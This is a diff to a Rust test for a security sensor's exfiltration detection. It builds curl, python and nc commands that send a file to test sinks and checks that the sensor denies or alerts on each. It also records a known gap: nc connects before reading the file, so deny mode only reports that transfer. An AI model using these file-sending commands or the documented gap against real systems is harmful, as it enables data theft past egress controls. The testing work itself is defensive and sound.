@@ -62,6 +62,10 @@ struct Way {
     /// What the sink counts: the file (`SIZE`), 3000 for the datagrams, or more for curl's
     /// HTTP request (`None`: at least the file).
     expected: Option<u64>,
+    /// It reads the file before it connects, so `action: deny` refuses the connect. nc
+    /// connects first and reads its stdin after: docs/detections.md ("Egress control") says
+    /// such a connection is reported but not cut, and the deny test holds it to that.
+    tainted_at_connect: bool,
 }
 
 const WAYS: &[Way] = &[
@@ -72,6 +76,7 @@ const WAYS: &[Way] = &[
         sink: HTTP_SINK,
         send: |f, a, p| format!("curl -sSv -H Expect: --data-binary @{f} http://{a}:{p}/"),
         expected: None,
+        tainted_at_connect: true,
     },
     Way {
         name: "python",
@@ -80,6 +85,7 @@ const WAYS: &[Way] = &[
         sink: SINK,
         send: |f, a, p| format!("python3 -c \"{PY_TCP}\" {f} {a} {p}"),
         expected: Some(SIZE as u64),
+        tainted_at_connect: true,
     },
     Way {
         name: "nc",
@@ -88,6 +94,7 @@ const WAYS: &[Way] = &[
         sink: SINK,
         send: |f, a, p| format!("nc -N {a} {p} < {f}"),
         expected: Some(SIZE as u64),
+        tainted_at_connect: false,
     },
     Way {
         name: "connected UDP",
@@ -96,6 +103,7 @@ const WAYS: &[Way] = &[
         sink: UDP_SINK,
         send: |f, a, p| format!("python3 -c \"{PY_UDP_CONNECTED}\" {f} {a} {p}"),
         expected: Some(3000),
+        tainted_at_connect: true,
     },
     Way {
         name: "python over IPv6",
@@ -104,6 +112,7 @@ const WAYS: &[Way] = &[
         sink: SINK,
         send: |f, a, p| format!("python3 -c \"{PY_TCP}\" {f} {a} {p}"),
         expected: Some(SIZE as u64),
+        tainted_at_connect: true,
     },
     Way {
         name: "nc over IPv6",
@@ -112,6 +121,7 @@ const WAYS: &[Way] = &[
         sink: SINK,
         send: |f, a, p| format!("nc -N {a} {p} < {f}"),
         expected: Some(SIZE as u64),
+        tainted_at_connect: false,
     },
     Way {
         name: "curl over IPv6",
@@ -120,6 +130,7 @@ const WAYS: &[Way] = &[
         sink: HTTP_SINK,
         send: |f, a, p| format!("curl -sSv -H Expect: --data-binary @{f} http://[{a}]:{p}/"),
         expected: None,
+        tainted_at_connect: true,
     },
     Way {
         name: "connected UDP over IPv6",
@@ -128,6 +139,7 @@ const WAYS: &[Way] = &[
         sink: UDP_SINK,
         send: |f, a, p| format!("python3 -c \"{PY_UDP_CONNECTED}\" {f} {a} {p}"),
         expected: Some(3000),
+        tainted_at_connect: true,
     },
 ];
 
@@ -201,12 +213,20 @@ fn each_way_out_is_refused_with_eperm_under_deny() {
         let port = 9701 + i as u16;
         let err = s.outside.join(format!("{port}.err"));
         let code = cg.run(&wrap(&(way.send)(&file, address, port), &err));
-        assert_eq!(code, EPERM_EXIT, "{}: refused with EPERM", way.name);
-        let d = s.sensor.wait_for(&format!("refused exfiltration by {}", way.name), exfil_to(port));
+        let d = s.sensor.wait_for(&format!("exfiltration by {} under deny", way.name), exfil_to(port));
         let what = format!("{}: {}", way.name, show(&d));
-        assert_eq!(get_str(&d, "mnsensor.detection.action"), "deny", "{what}");
         assert_eq!(get_str(&d, "destination.address"), *address, "{what}");
         assert_eq!(get_str(&d, "network.transport"), way.transport, "{what}");
+        if way.tainted_at_connect {
+            assert_eq!(code, EPERM_EXIT, "{}: refused with EPERM", way.name);
+            assert_eq!(get_str(&d, "mnsensor.detection.action"), "deny", "{what}");
+        } else {
+            // Reported, not cut (the documented gap): the file arrives.
+            assert_eq!(code, 0, "{}: connected before it was tainted", way.name);
+            assert_eq!(host.received_n(port, 1), vec![SIZE as u64], "{}", way.name);
+            assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{what}");
+            assert_eq!(get_str(&d, "mnsensor.detection.action"), "alert", "{what}");
+        }
     }
     // The same file from an untainted copy goes through: the sinks work.
     let public = path_str(&s.public).to_owned();
@@ -217,7 +237,7 @@ fn each_way_out_is_refused_with_eperm_under_deny() {
     thread::sleep(scaled(Duration::from_secs(1)));
     for i in 0..WAYS.len() {
         let port = 9701 + i as u16;
-        let expected: &[u64] = if i == python { &[SIZE as u64] } else { &[] };
+        let expected: &[u64] = if i == python || !WAYS[i].tainted_at_connect { &[SIZE as u64] } else { &[] };
         assert_eq!(host.received(port), expected, "{}: nothing of the file arrived", WAYS[i].name);
     }
     s.sensor.stop();
